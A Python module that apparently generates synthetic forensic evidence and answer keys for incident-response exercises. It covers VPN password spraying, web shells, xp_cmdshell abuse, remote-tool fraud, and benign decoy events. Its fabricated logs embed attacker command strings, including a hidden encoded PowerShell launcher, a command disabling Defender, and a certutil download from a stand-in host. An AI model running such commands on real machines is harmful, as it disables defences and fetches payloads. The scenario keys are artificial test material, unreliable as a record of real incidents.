"""The third wave: ways in, moves, decoys and companies that the first two don't have. Written before its first run."""

from __future__ import annotations

from hikeshi.demo import logs
from hikeshi.demo.actions import CMD, EXPLORER, POWERSHELL, SERVICES
from hikeshi.demo.evidence_set import Record, TextLog
from hikeshi.demo.incidents.incident import Incident
from hikeshi.demo.incidents.moves import esxi, rdp_onward
from hikeshi.demo.ordinary import HOME_USERS, ssh_session, vpn_session
from hikeshi.demo.world import CLIENTS_WITH_LOGS, FORTIGATE, HOUR, MINUTE, SECOND

_SYSTEM32 = "C:\\Windows\\System32\\"
_HIDDEN = "powershell.exe -nop -w hidden -enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQA"


def _tunnel_in(inc: Incident, account: str, records: list[Record], *, client: str = "") -> None:
    """VPN session, remote desktop to a server, a look around."""
    time, tunnel, host = inc.now, f"10.212.134.{inc.rng.randrange(60, 99)}", inc.server()
    records = [*vpn_session(inc.do, account, inc.outside, tunnel, time, minutes=300), *records]
    inc.story.entry("vpn_credential", time, records, source=inc.outside, account=account, host=host)
    inc.story.aliases[tunnel] = [inc.outside]
    inc.tunnel, moment = tunnel, inc.wait(60, 500)
    session, records = inc.do.rdp(tunnel, host, account, moment, minutes=200, client_name=client or inc.workstation)
    inc.story.spread(tunnel, host, account, "rdp", moment, records)
    inc.settle(host, account, session)
    inc.run(_SYSTEM32 + "quser.exe", "quser", CMD)
    inc.run(_SYSTEM32 + "nltest.exe", "nltest /dclist:", CMD)


def vpn_tested_first(inc: Incident) -> None:
    """A buyer of passwords tries one at noon, the day before; a hosting provider's address, nothing but a session."""
    user = inc.rng.choice(HOME_USERS)
    noon = inc.world.at(inc.day - 1, "12:20") + inc.rng.randrange(HOUR)
    tunnel = "10.212.134.58"
    first = vpn_session(inc.do, user, inc.outside, tunnel, noon, minutes=2)
    inc.story.aliases[tunnel] = [inc.outside]
    host = inc.server()
    inc.story.entry("vpn_credential", noon, first, source=inc.outside, account=user, host=host)
    inc.free.insert(0, host)
    inc.now = inc.world.at(inc.day, "14:00") + inc.rng.randrange(HOUR)
    _tunnel_in(inc, user, [])


def vpn_slow_spray(inc: Incident) -> None:
    """One try an hour over all accounts for days, each from the same address."""
    users, records = [u.account for u in inc.world.users], list[Record]()
    victim = inc.rng.choice(HOME_USERS)
    begin = inc.world.at(0, "01:00")
    hours = (inc.now - begin) // HOUR
    for n in range(hours):
        time = begin + n * HOUR + inc.rng.randrange(20 * MINUTE)
        user = users[n % len(users)]
        if user != victim:
            line = logs.fortigate_vpn_failure(time, source=inc.outside, user=user)
            records.append(inc.do.evidence.line(FORTIGATE, time, line))
    _tunnel_in(inc, victim, records[-12:])


def vpn_former_employee(inc: Incident) -> None:
    """Somebody who left comes back with the account nobody closed, in the evening, from home."""
    inc.now = inc.world.at(inc.day, "20:15") + inc.rng.randrange(HOUR)
    account = inc.add_account("r.aoki")
    _tunnel_in(inc, account, [], client="HOME-PC")


def rdp_ipv6(inc: Incident) -> None:
    """Remote desktop reachable by IPv6, where no filter stands: guessed from one address."""
    host, inc.outside = inc.server(), f"2001:db8:77:{inc.rng.randrange(1, 99):x}::5a"
    records: list[Record] = []
    for n in range(inc.rng.randrange(50, 90)):
        user = inc.admin if n % 2 else "administrator"
        records += inc.do.failed_logon(host, user, 3, inc.wait(3, 15), address=inc.outside)
    time = inc.wait(10, 40)
    session, more = inc.do.rdp(inc.outside, host, inc.admin, time, minutes=180, client_name=inc.workstation)
    inc.story.entry("brute_force", time, [*more, *records[-9:]], source=inc.outside, account=inc.admin, host=host)
    inc.story.may("spread", [inc.outside, host, inc.admin, "rdp"])
    inc.settle(host, inc.admin, session)
    inc.run(_SYSTEM32 + "net.exe", 'net group "Domain Admins" /domain', CMD)


def mail_disc_image(inc: Incident) -> None:
    """A disc image from a mail; its shortcut starts rundll32 with a library that lies on the mounted drive."""
    inc.now = inc.world.at(inc.day, "09:20") + inc.rng.randrange(5 * HOUR)
    host = inc.client()
    user, session, time = inc.owner(host), inc.world.next_logon_id(), inc.now
    outlook = "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"
    records = inc.do.file_created(host, user, time - 50 * SECOND, outlook, f"C:\\Users\\{user}\\AppData\\Local\\"
                                  "Microsoft\\Windows\\INetCache\\Content.Outlook\\Q7\\請求書_10月.iso")  # fmt: skip
    records += inc.do.process(host, user, session, time, _SYSTEM32 + "rundll32.exe",
                              '"C:\\Windows\\System32\\rundll32.exe" E:\\docs\\scan.dat,StartW', EXPLORER)  # fmt: skip
    records += inc.do.process(host, user, session, time + 50 * SECOND, CMD, "cmd.exe /C whoami /groups",
                              _SYSTEM32 + "rundll32.exe")  # fmt: skip
    inc.story.entry("mail_attachment", time, records, source=None, account=user, host=host)
    inc.settle(host, user, session)
    inc.run(_SYSTEM32 + "nltest.exe", "nltest /domain_trusts", _SYSTEM32 + "rundll32.exe")
    inc.run(_SYSTEM32 + "net.exe", 'net group "domain computers" /domain', CMD)


def support_fraud(inc: Incident) -> None:
    """A warning page with a telephone number; the caller's ScreenConnect from Downloads, then a shell."""
    inc.now = inc.world.at(inc.day, "10:30") + inc.rng.randrange(5 * HOUR)
    host = inc.client()
    user, session = inc.owner(host), inc.world.next_logon_id()
    tool = f"C:\\Users\\{user}\\Downloads\\support.ClientSetup (1).exe"
    client = f"C:\\Users\\{user}\\AppData\\Local\\Apps\\2.0\\Q1\\ScreenConnect.WindowsClient.exe"
    time = inc.now
    records = inc.do.process(host, user, session, time, tool, f'"{tool}"', EXPLORER)
    records += inc.do.process(host, user, session, time + 20 * SECOND, client, f'"{client}" "?e=Support&y=Guest"', tool)
    records += inc.do.process(host, user, session, time + 6 * MINUTE, CMD, '"C:\\Windows\\System32\\cmd.exe"', client)
    inc.story.entry("remote_tool", time, records, source=None, account=user, host=host)
    inc.settle(host, user, session)
    inc.wait(400, 700)
    inc.run(_SYSTEM32 + "systeminfo.exe", "systeminfo", CMD)
    inc.run(_SYSTEM32 + "whoami.exe", "whoami /priv", CMD)


def mail_server_shell(inc: Incident) -> None:
    """A page dropped through the mail server's web front; its own log, its own pool."""
    host, do = inc.take("MAIL01"), inc.do
    leaf = inc.rng.choice(("errorFE", "log", "discover", "iisstart")) + f"{inc.rng.randrange(9)}.aspx"
    name = "iis mail"
    do.evidence.text[name] = TextLog(lambda _: "MAIL01/u_ex261005.log", logs.iis_header)

    def hit(time: int, client: str, method: str, path: str, status: int = 200, agent: str = "Outlook") -> Record:
        line = logs.iis(time, server=inc.address(host), client=client, method=method, path=path, status=status,
                        agent=agent)  # fmt: skip
        return do.evidence.line(name, time, line)

    for day in inc.world.days():
        for n in range(150):
            time = inc.world.at(day, "00:00") + inc.rng.randrange(24 * HOUR)
            if time < inc.world.end - HOUR:
                pages = ("/owa/", "/EWS/Exchange.asmx", "/mapi/emsmdb/", "/autodiscover/autodiscover.xml")
                path = inc.rng.choice(pages)
                hit(time, f"192.0.2.{210 + n % 40}", "POST", path)
    begun = inc.now
    records = [hit(begun, inc.outside, "POST", "/autodiscover/autodiscover.json", 200, "python-requests/2.28")]
    page = f"/aspnet_client/{leaf}"
    w3wp, shown = _SYSTEM32 + "inetsrv\\w3wp.exe", []
    for command in ("whoami", "quser", 'net group "Exchange Servers" /domain'):
        time = inc.wait(20, 90)
        shown.append(hit(time, inc.outside, "POST", page, 200, "python-requests/2.28"))
        shown += do.process(host, "SYSTEM", 0x3E7, time + SECOND // 3, CMD, f'"cmd.exe" /c {command}', w3wp,
                            "w3wp.exe -ap MSExchangeOWAAppPool")  # fmt: skip
    inc.story.entry("web_shell", begun, [*records, *shown[:1]], source=inc.outside, account=None, host=host)
    inc.settle(host, "SYSTEM", 0x3E7)
    inc.hold(host, begun, shown)


def managed_agent(inc: Incident) -> None:
    """The managing firm's agent, taken over there, runs a script on many machines in the same minutes."""
    agent = "C:\\Program Files (x86)\\KuraRMM\\AgentMon.exe"
    hosts = [inc.client(), inc.client(), inc.client(), inc.server()]
    for host in hosts:
        for day in range(inc.day):
            inc.do.process(host, "SYSTEM", 0x3E7, inc.world.at(day, "03:05") + inc.rng.randrange(9 * MINUTE), CMD,
                           'cmd.exe /c "C:\\kworking\\inventory.cmd"', agent)  # fmt: skip
    time, everything = inc.now, []
    for number, host in enumerate(hosts):
        moment = time + number * 21 * SECOND
        records = inc.do.process(host, "SYSTEM", 0x3E7, moment, CMD, "cmd.exe /c ping 127.0.0.1 -n 5 > nul & "
                                 "powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true", agent)  # fmt: skip
        records += inc.do.process(host, "SYSTEM", 0x3E7, moment + 6 * SECOND, POWERSHELL, _HIDDEN, CMD)
        inc.hold(host, moment, records)
        everything += records
    inc.story.entry("supplier", time, everything, source=None, account=None, host=hosts[0])
    inc.now = time + 3 * MINUTE
    inc.settle(hosts[0], "SYSTEM", 0x3E7)
    inc.run(_SYSTEM32 + "net.exe", "net view /all", CMD)


def database_guessed(inc: Incident) -> None:
    """The database open to the Internet: sa guessed, the shell procedure switched on."""
    host, do, name = inc.take("SQL01"), inc.do, "sql errors"
    do.evidence.text[name] = TextLog(lambda _: "SQL01/ERRORLOG.log")
    records: list[Record] = []
    for _ in range(inc.rng.randrange(60, 120)):
        time = inc.wait(1, 5)
        records.append(
            _sql(
                inc,
                name,
                time,
                "Logon",
                "Login failed for user 'sa'. Reason: Password did not match "
                f"that for the login provided. [CLIENT: {inc.outside}]",
            )
        )
    time = inc.wait(2, 9)
    records.append(
        _sql(
            inc,
            name,
            time,
            "Logon",
            f"Login succeeded for user 'sa'. Connection made using SQL Server authentication. [CLIENT: {inc.outside}]",
        )
    )
    records += do.traffic(inc.outside, inc.address(host), 1433, time, duration=4000, interfaces=("wan1", "lan"),
                          service="MS-SQL")  # fmt: skip
    _sql(
        inc,
        name,
        time + 5 * SECOND,
        "spid61",
        "Configuration option 'xp_cmdshell' changed from 0 to 1. Run the RECONFIGURE statement to install.",
    )
    sql = "C:\\Program Files\\Microsoft SQL Server\\MSSQL15.MSSQLSERVER\\MSSQL\\Binn\\sqlservr.exe"
    for number, command in enumerate(
        ("whoami", "systeminfo", "certutil -urlcache -f http://cdn.example/s.exe C:\\ProgramData\\s.exe")
    ):
        records += do.process(host, "SYSTEM", 0x3E7, time + (number + 1) * 20 * SECOND, CMD,
                              f'"C:\\Windows\\system32\\cmd.exe" /c {command}', sql)  # fmt: skip
    inc.story.entry("brute_force", time, records[-8:], source=inc.outside, account="sa", host=host)
    inc.story.may("compromised_accounts", "sa")
    inc.settle(host, "SYSTEM", 0x3E7)
    inc.now = time + 3 * MINUTE


def _sql(inc: Incident, log: str, time: int, who: str, text: str) -> Record:
    from hikeshi.events.time import to_datetime

    local = to_datetime(time).astimezone(logs.JST)
    return inc.do.evidence.line(
        log, time, f"{local:%Y-%m-%d %H:%M:%S}.{local.microsecond // 10_000:02d} {who:<11} {text}"
    )


def ssh_guessed(inc: Incident) -> None:
    """SSH open to the Internet, guessed; from the Linux machine to a server by remote tools."""
    host, account, do = "LNX01", inc.add_account("deploy"), inc.do
    records: list[Record] = []
    for n in range(inc.rng.randrange(60, 110)):
        time, user = inc.wait(2, 9), account if n % 3 == 0 else inc.rng.choice(("root", "ubuntu", "oracle"))
        invalid = "" if user in (account, "root") else "invalid user "
        text = f"Failed password for {invalid}{user} from {inc.outside} port {40000 + n} ssh2"
        records.append(do.evidence.line("auth", time, logs.syslog(time, host, f"sshd[{21000 + n}]", text)))
    time = inc.wait(4, 20)
    records += ssh_session(do, account, inc.outside, time, method="password", minutes=90)
    inc.story.entry("brute_force", time, records[-9:], source=inc.outside, account=account, host=host)
    inc.story.may("spread", [inc.outside, host, account, "ssh"])
    address = inc.address(host)
    for method in ("wmi", "service"):
        target, moment = inc.server(), inc.wait(300, 900)
        session, more = do.from_outside(address, target, inc.admin, moment, method, workstation=host)
        inc.story.spread(host, target, inc.admin, method, moment, more)
        inc.settle(target, inc.admin, session)
    inc.held.insert(0, host)


def border_logs_only(inc: Incident) -> None:
    """Nobody kept a Windows log: VPN and firewall alone tell."""
    user, records = inc.rng.choice(HOME_USERS), list[Record]()
    for _ in range(inc.rng.randrange(20, 50)):
        time = inc.wait(10, 50)
        line = logs.fortigate_vpn_failure(time, source=inc.outside, user=user)
        records.append(inc.do.evidence.line(FORTIGATE, time, line))
    time, tunnel, host = inc.wait(10, 40), f"10.212.134.{inc.rng.randrange(60, 99)}", inc.server()
    records = [*vpn_session(inc.do, user, inc.outside, tunnel, time, minutes=200), *records]
    records += inc.do.traffic(tunnel, inc.address(host), 3389, time + MINUTE, duration=3000, service="RDP",
                              interfaces=("ssl.root", "lan"), user=user)  # fmt: skip
    inc.story.entry("vpn_credential", time, records, source=inc.outside, account=user, host=inc.address(host))
    inc.story.claims = [c for c in inc.story.claims if c.key != "compromised_hosts"]
    inc.story.may("compromised_hosts", inc.address(host))
    inc.story.aliases[tunnel] = [inc.outside]
    inc.settle(host, user, 1)
    for name in inc.world.hosts:
        inc.do.evidence.withhold(name)


# --- moves ---


def beacon_service(inc: Incident, target: str) -> None:
    """A service with a random name whose program lies on the target's own administrative share."""
    time = inc.wait()
    name = "".join(inc.rng.choice("0123456789abcdef") for _ in range(7))
    _, records = inc.do.remote_service(inc.base, target, inc.admin, time, used_by=inc.account, name=name,
                                       image=f"\\\\{inc.address(target)}\\ADMIN$\\{name}.exe",
                                       drop=f"{name}.exe")  # fmt: skip
    inc.story.spread(inc.base, target, inc.admin, "service", time, records)
    inc.held.append(target)
    inc.story.may("persistence", [target, "service", name])


def backup_server(inc: Incident, target: str) -> None:
    """To the backup server, whose stored passwords open the hypervisor."""
    if "BK01" in inc.free:
        inc.take("BK01")
        rdp_onward(inc, "BK01")
    esxi(inc, target)


def roast(inc: Incident, target: str) -> None:
    """Tickets for many services in one second, then the one that was cracked, by PsExec's kin."""
    time = inc.wait()
    for n, service in enumerate(("SQL01", "MAIL01", "APP01", "BK01", "FS01", "FS02", "RDS01")):
        inc.do.service_ticket(inc.account if inc.account != "SYSTEM" else f"{inc.base}$", inc.address(inc.base),
                              service, time + n * 40_000)  # fmt: skip
    inc.now += 2 * HOUR
    beacon_service(inc, target)


def far_clock(inc: Incident, target: str) -> None:
    """A machine whose clock stands nine hours wrong, as after a wrong zone."""
    rdp_onward(inc, target)
    inc.run(CMD, "cmd.exe /c dir D:\\ /s", EXPLORER)
    inc.do.evidence.clock_runs_fast(target, 9 * 3600)
    inc.remarks += [f"{target} の時計は実際の時刻より 540 分 0 秒進んでいました。",
                    f"The clock of {target} runs 540 minutes 0 seconds fast."]  # fmt: skip


# --- decoys ---


def patch_day(inc: Incident) -> None:
    """Patches on clients by PAExec, from the deployment account, as it does them each month."""
    time = inc.world.at(inc.day - 1, "19:10")
    for number, target in enumerate(CLIENTS_WITH_LOGS[-3:]):
        inc.do.psexec("JUMP01", target, "svc_deploy", time + number * 5 * MINUTE, tool="C:\\Tools\\PAExec.exe",
                      options="-s -c", remote_command="C:\\Windows\\Temp\\patch-1012.exe /quiet", used_by="svc_deploy",
                      remote_image="C:\\Windows\\Temp\\patch-1012.exe")  # fmt: skip
    inc.story.decoy_accounts += ["svc_deploy"]
    inc.story.decoy_hosts += ["JUMP01"]


def expired_password(inc: Incident) -> None:
    """A service account whose password ran out: wrong from the same machine, every ten minutes, for days."""
    account = inc.add_account("svc_report")
    for n in range(200):
        inc.do.failed_logon("FS02", account, 3, inc.world.at(1, "09:00") + n * 10 * MINUTE,
                            address=inc.address("APP01"))  # fmt: skip
    inc.story.decoy_accounts += [account]


def new_colleague(inc: Incident) -> None:
    """An administrator makes an account for somebody who begins, who then signs in at once."""
    name, time = inc.add_account("s.nishida"), inc.world.at(inc.day - 1, "09:10")
    inc.do.account_created("DC01", inc.other_admin, 0x51234, time, name, inc.world.sid(name))
    inc.do.rdp(inc.address("PC-A004"), "RDS01", name, time + 20 * MINUTE, minutes=30, client_name="PC-A004")
    inc.story.decoy_accounts += [name]


def help_desk(inc: Incident) -> None:
    """AnyDesk of the help desk, always from the firm's own address, on a client in office hours."""
    host = inc.clients.pop()
    tool = "C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe"
    for day in range(inc.day):
        if inc.world.is_workday(day):
            time = inc.world.at(day, "10:20") + inc.rng.randrange(HOUR)
            inc.do.process(host, "SYSTEM", 0x3E7, time, tool, f'"{tool}" --service', SERVICES)
            inc.do.anydesk_trace(host, "192.0.2.91", 455_000_111, time + 50 * SECOND)
    inc.story.decoy_hosts += [host]


def address_lent_again(inc: Incident) -> None:
    """A client's address goes to another client that has no part, hours later."""
    attacked = next((h for h in inc.held if h.startswith("PC-")), CLIENTS_WITH_LOGS[0])
    other = next(h.name for h in inc.world.hosts.values() if h.role == "client" and h.name not in CLIENTS_WITH_LOGS)
    inc.do.dhcp(inc.world.at(0, "08:05"), inc.address(attacked), attacked)
    inc.do.dhcp(min(inc.now + 5 * HOUR, inc.world.end - HOUR), inc.address(attacked), other)
    inc.story.decoy_hosts += [other]


DECOYS = (patch_day, expired_password, new_colleague, help_desk, address_lent_again)
MOVES = {"beacon_service": beacon_service, "backup_server": backup_server, "roast": roast, "far_clock": far_clock}
